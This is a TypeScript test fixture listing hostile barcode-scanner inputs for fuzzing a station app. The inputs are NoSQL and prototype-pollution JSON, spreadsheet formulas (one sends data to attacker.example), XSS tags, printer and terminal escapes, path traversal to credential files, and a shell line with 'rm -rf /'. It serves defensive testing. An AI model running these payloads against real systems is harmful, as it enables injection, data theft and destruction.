import { badgeCode } from '../../shared/domain/barcode/command-code.ts'
import { iccid, imei } from './codes.ts'

export interface HostileCode {
  readonly name: string
  /** What the scanner sends before its terminator. */
  readonly bytes: Buffer
}

/** Of badges that lie inside other codes: nowhere may any of it be found again. */
export const hostileToken = '7Q2K9XW4HVJT3N8RMZ5YBC6DEF'

/** Numbers that no unit of a test may have: a code that smuggles one in would show as a device of it. */
const smuggled = imei(987_654)
const badge = badgeCode(hostileToken)

const texts: Readonly<Record<string, string>> = {
  // Operators and names of the database
  'operator as JSON': '{"$gt":""}',
  'operator in an IMEI': `{"imei":{"$ne":null},"iccid":"${iccid(987_654)}"}`,
  'where with code': '{"$where":"sleep(5000)"}',
  'where as text': `$where: function(){ db.devices.drop() }`,
  'function operator': '{"imei":{"$function":{"body":"function(){return 1}","args":[],"lang":"js"}}}',
  'keys with dots': '{"a.b.c":1,"metadata.station":{"pairing":"none"}}',
  'order that is an operator': 'ORDER:{"$regex":".*"}',
  'order that is a field path': 'ORDER:$order_number',
  'batch with an operator': 'BATCH:ORD-HOSTILE:{"$gt":0}',
  'batch of a huge number': 'BATCH:ORD-HOSTILE:99999999999999999999',
  'batch of a negative number': 'BATCH:ORD-HOSTILE:-1',
  'prototype by JSON': `{"__proto__":{"isSupervisor":true,"imei":"${smuggled}"}}`,
  'constructor by JSON': '{"constructor":{"prototype":{"admin":true}}}',
  'prototype as an order': 'ORDER:__proto__',
  'constructor as a batch': 'BATCH:constructor:1',
  hasOwnProperty: 'hasOwnProperty',
  'deeply nested JSON': `${'{"a":'.repeat(600)}1${'}'.repeat(600)}`,
  'unfinished JSON': '{"imei":"',
  // Spreadsheets
  'formula that runs a program': `=cmd|' /C calc'!A0`,
  'formula of a link': '=HYPERLINK("http://attacker.example/?x="&A1,"ok")',
  'formula by plus': '+1+1',
  'formula by minus': '-2+3+cmd|x',
  'formula by at': '@SUM(A1:A9)',
  'formula behind a tabulator': '\t=1+1',
  // Printers
  'ZPL label': '^XA^FO50,50^ADN,36,20^FDpwned^FS^XZ',
  'ZPL cancel all': '~JA',
  'ZPL reset': '~JR^XA^JUF^XZ',
  'ESC/POS cut': '\u001bi\u001dV\u0000',
  // Terminals and logs
  'ANSI clear screen': '\u001b[2J\u001b[1;1H',
  'ANSI title': '\u001b]0;pwned\u0007',
  'ANSI in eight bits': '\u009b31mred\u009b0m',
  'log line of its own': 'x\r{"at":"2026-01-01","event":"session.opened"}',
  'backspaces over the line': `${'\b'.repeat(40)}OK`,
  // Unicode
  'right to left override': 'IMEI \u202e1234567890',
  isolates: '\u2066\u2067\u2068\u2069 code \u200f\u061c',
  'zero width': 'A\u200b\u200c\u200d\u2060\ufeffB',
  'combining marks': `Z${'\u0301'.repeat(400)}`,
  'line separators': 'one\u2028two\u2029three',
  'other digits': '٣٥٦٩٣٨٠٣٥٦٤٣٨٠٩',
  'full-width digits': '３５６９３８０３５６４３８０９',
  'beyond the plane': '👩‍👩‍👧‍👦'.repeat(40),
  'not a character': '\uffff\ufffe\u{10ffff}',
  'private use': '\ue000\u{f0000}',
  // Pages
  script: '<script>globalThis.hostile=1;alert(1)</script>',
  image: `<img src=x onerror="globalThis.hostile=1">`,
  svg: '<svg/onload=globalThis.hostile=1>',
  'end of the page': '</textarea></style></script><h1 style="font-size:900px">BIG</h1>',
  style: '<style>*{display:none!important}</style>',
  'template of i18next': '{{count}} $t(frame.signOut) {{- name}}',
  'template of JavaScript': `\${globalThis.hostile=1} #{7*7} <%= 7*7 %> {{7*7}}`,
  'address of a script': 'javascript:globalThis.hostile=1',
  'address of a file': 'file:///etc/passwd',
  'address of the program': 'app://station/index.html?x',
  'address that leads out': 'http://attacker.example/collect?c=1',
  // Paths
  'path up': '../../../../etc/passwd',
  'path up on Windows': '..\\..\\..\\Windows\\System32\\config\\SAM',
  'path with NUL': 'label\u0000.pdf',
  'device of Windows': 'CON',
  share: '\\\\attacker.example\\share\\x',
  // Shells
  shell: '$(touch /tmp/pwned) `id` ; rm -rf / | sh',
  format: '%s%n%x %d {} %',
  // Numbers
  exponent: '1e308',
  infinite: 'Infinity',
  'minus zero': '-0',
  'long number': '9'.repeat(300),
  hexadecimal: '0x7fffffffffffffff',
  // Control characters of Code 128 and GS1
  'function characters': '\u001d01\u001d10\u001d21',
  'separators alone': '\u001d\u001e\u001f\u001c',
  'controls around': '\u0001\u0002\u0004\u0005\u0006SOH',
  'GS1 that ends early': '(01)0950600013435(21)',
  'AIM id of nothing': ']C1',
  'AIM id twice': ']C1]C1]d2',
  // Commands and badges
  'command with garbage': 'OSECUNDO;OSECSIGNOUT',
  'command behind garbage': 'xOSECSIGNOUT',
  'command with an override': 'OSECSIGN\u202eOUT',
  'command that is none': 'OSEC__proto__',
  'command twice': 'OSECUNDOOSECUNDO',
  'badge inside a code': `ORDER:${badge}`,
  'badge behind a number': `${smuggled.slice(0, 10)}${badge}`,
  'badge cut': badge.slice(0, 20),
  'badge in JSON': `{"imei":"${badge}"}`,
  'badge in small letters with noise': `x${badge.toLowerCase()}y`,
  'badge with noise inside': `OSEB${hostileToken.slice(0, 9)}\u0000${hostileToken.slice(9)}`,
  'badge without its head': hostileToken,
  // Length
  'as long as a code may be': 'A'.repeat(4096),
  'too long': 'B'.repeat(65_536),
  'too long, of tags': '<b>'.repeat(20_000),
}

const raw: Readonly<Record<string, readonly number[]>> = {
  'NUL alone': [0, 0, 0],
  'lone surrogate': [0x41, 0xed, 0xa0, 0x80, 0x42],
  'overlong slash': [0x2e, 0x2e, 0xc0, 0xaf, 0x2e, 0x2e],
  'cut UTF-8': [0x41, 0xe2, 0x82],
  'bytes of no encoding': [0xff, 0xfe, 0x80, 0x81, 0xc3, 0x28],
  'byte order mark': [0xef, 0xbb, 0xbf, 0x31, 0x32, 0x33],
  'UTF-16': [0x33, 0x00, 0x35, 0x00, 0x36, 0x00],
}

export const hostileCodes: readonly HostileCode[] = [
  ...Object.entries(texts).map(([name, text]) => ({ name, bytes: Buffer.from(text, 'utf8') })),
  ...Object.entries(raw).map(([name, bytes]) => ({ name, bytes: Buffer.from(bytes) })),
]

/** As the program reads the bytes: UTF-8 where they are that. For parts that are given texts. */
export const hostileTexts: readonly string[] = [
  ...Object.values(texts),
  // What no bytes can say and a page or a document may: a surrogate alone.
  'A\ud800B',
  '\udfff',
]
